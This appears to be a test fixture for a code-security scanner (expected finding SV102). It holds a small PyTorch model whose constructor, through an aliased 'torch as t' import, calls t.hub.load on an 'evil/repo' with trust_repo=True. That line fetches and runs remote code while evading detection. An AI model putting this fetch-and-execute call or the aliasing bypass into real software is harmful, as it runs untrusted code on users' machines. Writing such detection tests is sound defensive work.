# technique: module alias hides the dangerous chain: import torch as t; t.hub.load(...)
# source: Sentinel brief (aliasing); smolagents import-tree bypasses
# expect: SV102
import math

import torch as t
from torch import nn


class Model(nn.Module):
    def __init__(self, input_shape, output_dim, hidden: int = 32):
        super().__init__()
        self.fc = nn.Linear(math.prod(input_shape), output_dim)
        self.backbone = t.hub.load('evil/repo', 'net', trust_repo=True)

    def forward(self, x):
        return self.fc(x.flatten(1))
